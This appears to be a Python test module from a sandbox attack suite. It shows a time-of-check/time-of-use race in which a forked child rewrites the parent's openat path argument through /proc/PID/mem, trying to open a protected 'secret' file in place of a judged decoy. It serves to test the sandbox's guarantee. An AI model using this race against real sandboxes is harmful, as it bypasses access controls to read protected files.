"""A child rewrites the path of its parent's open through /proc/PID/mem."""

import os

from attack import WORK, call, main, read
from race import Race, until_won

PROMISE = "the path that was judged is the path that is used, however it is written"
CONTROL = "the open gives the decoy"
ADVICE = "report it: arguments are copied once"


def attempt() -> bool:
    race = Race(f"{WORK}/hide1/secret", f"{WORK}/hide0/secret")
    parent = os.getpid()
    child = os.fork()
    if child == 0:
        try:
            memory = os.open(f"/proc/{parent}/mem", os.O_RDWR)
            while True:
                for text in (race.bad, race.good):
                    os.pwrite(memory, text, race.address)
        finally:
            os._exit(1)
    try:
        return until_won(lambda: read(call("openat", -100, race.memory_pointer(), 0)))
    finally:
        os.kill(child, 9)


main(attempt, needs="the right to write another process's memory")
